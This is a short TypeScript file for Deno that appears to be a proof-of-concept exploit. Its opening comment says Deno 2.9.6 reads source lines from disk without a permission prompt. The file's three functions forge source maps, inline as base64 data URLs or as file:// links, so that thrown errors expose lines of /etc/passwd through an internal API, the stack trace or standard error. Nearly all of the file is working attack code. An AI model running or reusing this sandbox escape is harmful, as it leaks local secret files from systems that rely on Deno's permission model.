// Deno 2.9.6 shows the source line of an error where its source map says that it is, and reads it from the disk without asking.
function readLine(url: string, line: number) {
  const digits = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  let vlq = "";
  let rest = line << 1;
  do {
    vlq += digits[(rest & 31) | (rest > 31 ? 32 : 0)];
    rest >>= 5;
  } while (rest > 0);
  const map = btoa(JSON.stringify({ version: 3, sources: [url], names: [], mappings: `AA${vlq}A` }));
  const code = `export default new Error("x");\n//# sourceMappingURL=data:application/json;base64,${map}`;
  return import(URL.createObjectURL(new Blob([code], { type: "text/javascript" }))).then(
    ({ default: error }) => {
      const { core } = Deno[Deno.internal];
      return String(core.destructureError(error).sourceLine);
    },
  );
}

export async function forward({ secret = "/etc/passwd" }) {
  return { line: await readLine(`file://${secret}`, 0) };
}

// A map on the disk: that it was read shows in the stack.
export async function loss({ map = "/etc/passwd" }) {
  const code = `export default new Error("x");\n//# sourceMappingURL=file://${map}`;
  const { default: error } = await import(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
  return { stack: error.stack };
}

// The uncaught error's line is printed to standard error: it must not come back as a message.
export async function gradients({ secret = "/etc/passwd" }) {
  const map = btoa(
    JSON.stringify({ version: 3, sources: [`file://${secret}`], names: [], mappings: "AAAA" }),
  );
  const code =
    `setTimeout(() => { throw new Error("x") });\n//# sourceMappingURL=data:application/json;base64,${map}`;
  await import(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
  await new Promise(() => setInterval(() => {}, 1000));
}
